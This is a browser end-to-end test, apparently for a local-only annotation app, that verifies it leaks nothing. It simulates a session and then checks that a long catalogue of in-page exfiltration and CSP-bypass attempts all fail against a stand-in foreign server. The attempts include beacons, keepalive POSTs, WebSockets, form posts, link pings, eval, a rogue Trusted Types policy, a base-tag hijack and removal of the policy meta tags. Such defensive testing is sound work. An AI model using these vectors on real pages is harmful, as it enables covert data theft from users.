// @ts-check
import { createServer } from "node:http";

import { waitUntilKept } from "../support/kept.mjs";
import { across, richBlocks } from "../support/passages.mjs";
import { until } from "../support/until.mjs";

export const name = "Nothing leaves this computer, whatever is tried";

/** The page's own sign, which browsers ask for when they like. */
const ICON = /\/icon-[0-9a-f]+\.svg$/;

/** @param {import("../support/run-journey.mjs").Tools} tools */
export async function run(tools) {
  const { open, desk, page, context, site, articles, check, checkEqual, captureDownload, axe, screenshot, expectProblem } = tools;
  /** @type {string[]} */
  const asked = [];
  context.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith("blob:") && !ICON.test(url)) asked.push(url);
  });
  page.on("websocket", (socket) => asked.push(socket.url()));
  await open();
  await waitUntilKept(page);
  asked.length = 0;
  site.requests.length = 0;
  const isSilent = (/** @type {string} */ after) => {
    checkEqual(asked, [], `requests of ${after}`);
    checkEqual(site.requests.filter((path) => !ICON.test(path)), [], `what the server was asked for by ${after}`);
  };

  // A whole session: read, mark, link, group, look at it all, export, take back.
  for (const [place, { text }] of articles.entries()) {
    await desk.openArticle(place);
    const [{ words }] = richBlocks(text, 8);
    await desk.mark({ label: "claim", ...across(words[0], words[1]) });
    await desk.mark({ label: "denial", ...across(words[3], words[4]) });
    await page.keyboard.press("l");
    const bar = page.getByRole("region", { name: "Link", exact: true });
    await bar.waitFor();
    await bar.getByRole("option").first().click();
    await bar.waitFor({ state: "detached" });
  }
  await desk.waitUntilSaved();
  for (const view of ["Matrix", "Overview", "Read"]) await page.getByRole("button", { name: view, exact: true }).click();
  await page.keyboard.press("Control+z");
  const exported = await desk.exportJson(captureDownload);
  checkEqual(exported.json.annotations.length, 2 * articles.length, "annotations in the export");
  await desk.waitUntilSaved();
  isSilent("a session");

  // How a person can check that.
  const promise = page.getByRole("button", { name: "Nothing leaves this computer" });
  await promise.click();
  const dialog = page.getByRole("dialog", { name: "Nothing leaves this computer" });
  await dialog.waitFor();
  await axe();
  await screenshot("promise");
  await dialog.getByRole("button", { name: "Close" }).click();

  // Somebody else's server, who hears of every connection.
  /** @type {string[]} */
  const heard = [];
  const foreign = createServer((request, response) => {
    heard.push(decodeURIComponent(request.url ?? ""));
    response.end("heard");
  });
  /** @type {import("node:net").Socket[]} */
  const sockets = [];
  foreign.on("connection", (socket) => sockets.push(socket));
  await new Promise((resolve) => foreign.listen(0, "127.0.0.1", () => resolve(undefined)));
  const { port } = /** @type {import("node:net").AddressInfo} */ (foreign.address());
  // What is refused is said in the console.
  expectProblem(/Content[- ]Security[- ]Policy|Refused to|Trusted ?Type|violates|blocked|CSP|Loading failed|Navigation|can.t establish a connection|^request failed/i);
  const address = page.url();
  const outcomes = await page.evaluate(tryAll, [`http://127.0.0.1:${port}/`, new URL("stolen", site.url).href]);
  for (const [vector, outcome] of Object.entries(outcomes)) {
    check(outcome === "stopped", `${vector}: ${outcome}`);
  }
  await desk.openArticle(1);
  checkEqual(page.url().split("#")[0], address.split("#")[0], "the page's address after it was led elsewhere");
  checkEqual(context.pages().length, 1, "windows");
  checkEqual(heard, [], "what somebody else has heard");
  // Chromium knocks at the door of a frame before it asks the policy, and says nothing.
  checkEqual(sockets.filter((socket) => socket.bytesRead > 0).length, 0, "connections with a word to somebody else");
  check(sockets.length <= 1, `${sockets.length} connections to somebody else`);
  checkEqual(site.requests.filter((path) => !ICON.test(path)), [], "what the own server was asked for");
  foreign.closeAllConnections();
  await new Promise((resolve) => foreign.close(resolve));

  // The work is as it was.
  await desk.waitForCount(2 * articles.length);
  await until(page, "all is saved", async () => /^Saved/.test(await desk.saving.innerText()));
}

/**
 * Runs in the page: tries each way out as a script of a stranger would, and says how it went.
 * @param {string[]} addresses
 * @returns {Promise<Record<string, string>>}
 */
async function tryAll(addresses) {
  /** @type {Record<string, string>} */
  const outcomes = {};
  /**
   * @param {string} vector
   * @param {() => unknown} act answers or throws; what gives "stopped" or throws was stopped
   */
  const attempt = async (vector, act) => {
    try {
      const late = new Promise((resolve) => setTimeout(() => resolve("no answer"), 2_000));
      const outcome = await Promise.race([act(), late]);
      outcomes[vector] = outcome === "stopped" || outcome === "no answer" ? "stopped" : `it went through: ${outcome}`;
    } catch {
      outcomes[vector] = "stopped";
    }
  };
  /**
   * An element that loads, or fails.
   * @param {string} tag
   * @param {Record<string, string>} attributes
   */
  const element = (tag, attributes) =>
    new Promise((resolve) => {
      const made = document.createElement(tag);
      made.onload = () => resolve("loaded");
      made.onerror = () => resolve("stopped");
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
      setTimeout(() => {
        made.remove();
        resolve("stopped");
      }, 300);
    });
  for (const [whose, start] of [["a stranger", addresses[0]], ["its own server", addresses[1]]]) {
    let address = start;
    const of = (/** @type {string} */ what) => {
      address = `${start}?${encodeURIComponent(what)}`;
      return `${what} of ${whose}`;
    };
    await attempt(of("fetch"), async () => (await fetch(address, { mode: "no-cors" })).type);
    await attempt(of("a fetch that outlives the page"), async () => (await fetch(address, { method: "POST", body: "work", mode: "no-cors", keepalive: true })).type);
    await attempt(of("XMLHttpRequest"), () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(request.status);
      request.onerror = reject;
      request.open("GET", address);
      request.send();
    }));
    await attempt(of("EventSource"), () => new Promise((resolve, reject) => {
      const source = new EventSource(address);
      source.onopen = resolve;
      source.onerror = () => { source.close(); reject(new Error()); };
    }));
    await attempt(of("WebSocket"), () => new Promise((resolve, reject) => {
      const socket = new WebSocket(address.replace(/^http/, "ws"));
      socket.onopen = resolve;
      socket.onerror = reject;
    }));
    await attempt(of("a beacon"), () => { navigator.sendBeacon(address, "work"); return "stopped"; });
    await attempt(of("import()"), () => import(address));
    await attempt(of("a frame"), () => element("iframe", { src: address }).then(() => "stopped"));
    await attempt(of("an object"), () => element("object", { data: address }));
    await attempt(of("an embedded file"), () => element("embed", { src: address }));
    await attempt(of("a video"), () => element("video", { src: address }));
    await attempt(of("a form"), () => {
      const form = document.createElement("form");
      form.action = address;
      form.method = "post";
      document.body.append(form);
      form.submit();
      form.remove();
      return "stopped";
    });
    await attempt(of("a link that pings"), () => {
      const link = document.createElement("a");
      link.href = "#";
      link.ping = address;
      document.body.append(link);
      link.click();
      link.remove();
      return "stopped";
    });
    await attempt(of("a prefetched page"), () => element("link", { rel: "prefetch", href: address }));
    await attempt(of("a preloaded file"), () => element("link", { rel: "preload", as: "fetch", href: address }));
    await attempt(of("a link to a new window"), () => {
      const link = document.createElement("a");
      link.href = address;
      link.target = "_blank";
      document.body.append(link);
      link.click();
      link.remove();
      return "stopped";
    });
    await attempt(of("open()"), () => (window.open(address) === null ? "stopped" : "a window"));
    if ("navigation" in window) {
      await attempt(of("location"), () => { location.href = address; return "stopped"; });
      await attempt(of("a link"), () => {
        const link = document.createElement("a");
        link.href = address;
        // A listener of the guard's is not reached by what is not in the page.
        link.click();
        return "stopped";
      });
    }
  }
  const [stranger] = addresses;
  await attempt("a picture of a stranger", () => element("img", { src: `${stranger}pixel.png` }));
  await attempt("a style of a stranger", () => element("link", { rel: "stylesheet", href: `${stranger}a.css` }));
  await attempt("a font of a stranger", async () => (await new FontFace("x", `url(${stranger}f.woff2)`).load()).status);
  await attempt("a script of a stranger", () => {
    const script = document.createElement("script");
    script.src = `${stranger}a.js`;
    return script.src;
  });
  await attempt("a script in the page", () => {
    const script = document.createElement("script");
    script.text = "window.ran = true";
    document.body.append(script);
    return Reflect.get(window, "ran") ? "ran" : "stopped";
  });
  await attempt("eval", () => (0, eval)("1 + 1"));
  await attempt("Function", () => new Function("return 1")());
  await attempt("a timer of text", () => setTimeout(/** @type {any} */ ("window.ran = true"), 0));
  await attempt("innerHTML", () => { document.createElement("div").innerHTML = "<b>x</b>"; return "markup"; });
  await attempt("a handler in an attribute", () => {
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.ran = true");
    document.body.append(button);
    button.click();
    button.remove();
    return Reflect.get(window, "ran") ? "ran" : "stopped";
  });
  await attempt("another policy of trusted types", () => {
    const { trustedTypes } = /** @type {any} */ (window);
    if (!trustedTypes) return "stopped";
    return trustedTypes.createPolicy("stranger", { createHTML: (/** @type {string} */ text) => text }).name;
  });
  await attempt("a worker of text", () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"], { type: "text/javascript" })));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = reject;
  }));
  await attempt("another service worker", async () => (await navigator.serviceWorker.register(`${stranger}sw.js`)).scope);
  await attempt("a base", () => {
    const base = document.createElement("base");
    base.href = stranger;
    document.head.append(base);
    const isTaken = document.baseURI.startsWith(stranger);
    base.remove();
    return isTaken ? document.baseURI : "stopped";
  });
  await attempt("WebRTC", () => {
    const names = Object.getOwnPropertyNames(window).filter((name) => /RTC/.test(name) && Reflect.get(window, name) !== undefined);
    return names.length === 0 ? "stopped" : names.join(", ");
  });
  await attempt("WebRTC brought back", () => {
    Object.defineProperty(window, "RTCPeerConnection", { value: Object });
    return "it is back";
  });
  await attempt("the policy taken away", async () => {
    for (const meta of document.querySelectorAll("meta[http-equiv]")) meta.remove();
    return (await fetch(addresses[1])).type;
  });
  return outcomes;
}
